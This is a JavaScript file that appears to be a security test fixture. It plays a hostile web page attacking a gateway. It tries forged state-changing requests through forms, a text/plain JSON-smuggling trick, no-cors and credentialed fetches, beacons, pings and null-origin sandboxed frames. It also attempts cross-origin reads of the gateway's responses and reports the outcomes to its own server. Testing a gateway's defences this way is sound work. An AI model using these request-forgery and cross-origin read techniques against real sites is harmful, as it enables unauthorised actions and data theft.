// The attacks of a hostile page on the gateway. `plan` comes from plan.json of the page's own server:
//   gateway   the origin to attack
//   changes   [{how, path, body}]: requests that change something; `how` is a function of `senders`
//   reads     [{how, url}]: requests whose responses the page must not get; `how` is a function of `readers`
// The page reports {changes: {how: outcome}, reads: {"how url": null or what was read}} to /report.
"use strict";

const eventLimitMs = 10000;

function within(promise) {
  const late = new Promise(resolve => setTimeout(() => resolve("no event"), eventLimitMs));
  return Promise.race([promise, late]);
}

function frame(name) {
  const element = document.createElement("iframe");
  element.name = name;
  document.body.append(element);
  return element;
}

function form(how, url, enctype, fields) {
  const target = frame("target-" + how);
  const element = document.createElement("form");
  Object.assign(element, { method: "POST", action: url, enctype, target: target.name });
  for (const [name, value] of fields) {
    const input = document.createElement("input");
    Object.assign(input, { type: "hidden", name, value });
    element.append(input);
  }
  document.body.append(element);
  const loaded = new Promise(resolve => { target.onload = () => resolve("sent"); });
  element.submit();
  return loaded;
}

// A text/plain form sends name=value, so the equals sign is placed inside a string of the JSON document.
function splitAtEquals(body) {
  const text = body.replace(/}$/, ',"description":"=' + '"}');
  const at = text.indexOf("=");
  return [[text.slice(0, at), text.slice(at + 1)]];
}

const post = (url, options) => fetch(url, { method: "POST", mode: "no-cors", ...options });

// A sandboxed frame has no origin: its requests have Origin: null. Resolves with the message that the script posts.
function sandboxed(script) {
  const element = document.createElement("iframe");
  element.sandbox = "allow-scripts allow-forms";
  element.srcdoc = "<body><script>" + script + "<" + "/script>";
  const done = new Promise(resolve => {
    window.addEventListener("message", event => { if (event.source === element.contentWindow) resolve(event.data); });
  });
  document.body.append(element);
  return done;
}

const senders = {
  "form": (how, url) => form(how, url, "application/x-www-form-urlencoded", []),
  "multipart form": (how, url) => form(how, url, "multipart/form-data", [["a", "b"]]),
  "text form": (how, url, body) => form(how, url, "text/plain", splitAtEquals(body)),
  "fetch": (how, url) => post(url),
  "fetch of a blob": (how, url, body) => post(url, { body: new Blob([body]) }),
  "fetch of a text": (how, url, body) => post(url, { body }),
  "fetch of a form": (how, url) => post(url, { body: new URLSearchParams([["a", "b"]]) }),
  "fetch with credentials": (how, url) => post(url, { credentials: "include" }),
  "fetch of JSON": (how, url, body) =>
    fetch(url, { method: "POST", headers: { "Content-Type": "application/json" }, body }),
  "fetch PUT": (how, url, body) => fetch(url, { method: "PUT", headers: { "Content-Type": "application/json" }, body }),
  "fetch DELETE": (how, url) => fetch(url, { method: "DELETE" }),
  "beacon": async (how, url) => navigator.sendBeacon(url),
  "beacon of a blob": async (how, url, body) => navigator.sendBeacon(url, new Blob([body])),
  "beacon of a text": async (how, url, body) => navigator.sendBeacon(url, body),
  "beacon of JSON": async (how, url) => navigator.sendBeacon(url, new Blob(["{}"], { type: "application/json" })),
  "ping of a link": async (how, url) => {
    const link = document.createElement("a");
    Object.assign(link, { href: "/empty", ping: url, target: frame("target-ping").name });
    document.body.append(link);
    link.click();
  },
  // The page's policy (Content-Security-Policy-Report-Only) contains the address to report to; this picture violates
  // the policy.
  "policy report": async () => { document.body.append(Object.assign(new Image(), { src: "/picture" })); },
  "sandboxed form": (how, url) => sandboxed(
    `document.write('<form method=POST action="${url}"></form>');document.forms[0].submit();parent.postMessage("sent","*")`),
  "sandboxed fetch": (how, url, body) => sandboxed(
    `fetch(${JSON.stringify(url)},{method:"POST",mode:"no-cors",body:new Blob([${JSON.stringify(body)}])})` +
    `.then(()=>parent.postMessage("sent","*"),e=>parent.postMessage(String(e),"*"))`),
};

function element(name, attributes) {
  return new Promise(resolve => {
    const made = Object.assign(document.createElement(name), attributes);
    made.onload = made.onloadeddata = () => resolve("loaded");
    made.onerror = () => resolve(null);
    document.body.append(made);
  });
}

const none = () => null;
const readers = {
  "fetch": url => fetch(url).then(answer => answer.text(), none),
  "opaque fetch": url => fetch(url, { mode: "no-cors" }).then(answer => "got an answer of type " + answer.type, none),
  "request": url => new Promise(resolve => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.responseText);
    request.onerror = () => resolve(null);
    request.open("GET", url);
    request.send();
  }),
  "picture": url => element("img", { src: url }),
  "script": url => element("script", { src: url }),
  "module": url => import(url).then(() => "loaded", none),
  "style": url => element("link", { rel: "stylesheet", href: url }),
  "video": url => element("video", { src: url }),
  "object": url => element("object", { data: url }),
  "frame": url => new Promise(resolve => {
    const shown = frame("shown");
    shown.onload = () => {
      try { resolve(shown.contentDocument?.body?.innerText || null); } catch { resolve(null); }
    };
    shown.src = url;
  }),
  "events": url => new Promise(resolve => {
    const source = new EventSource(url);
    source.onmessage = event => resolve(event.data);
    source.onopen = () => resolve("opened");
    source.onerror = () => { source.close(); resolve(null); };
  }),
  "socket": url => new Promise(resolve => {
    const socket = new WebSocket(url.replace("http", "ws"));
    socket.onopen = () => resolve("opened");
    socket.onerror = () => resolve(null);
  }),
  // For a page that the browser considers to have the gateway's origin.
  "own fetch": url => fetch(url).then(async answer => {
    const text = await answer.text();
    return answer.ok ? text : null;
  }, none),
};

async function run() {
  const plan = await (await fetch("/plan.json")).json();
  const report = { changes: {}, reads: {} };
  await Promise.all(plan.changes.map(async ({ how, path, body }) => {
    const sent = (async () => senders[how](how, plan.gateway + path, body))();
    report.changes[how] = await within(sent.then(String, String));
  }));
  await Promise.all(plan.reads.map(async ({ how, url }) => {
    report.reads[how + " " + url] = await within(readers[how](url));
  }));
  await fetch("/report", { method: "POST", body: JSON.stringify(report) });
}
run();
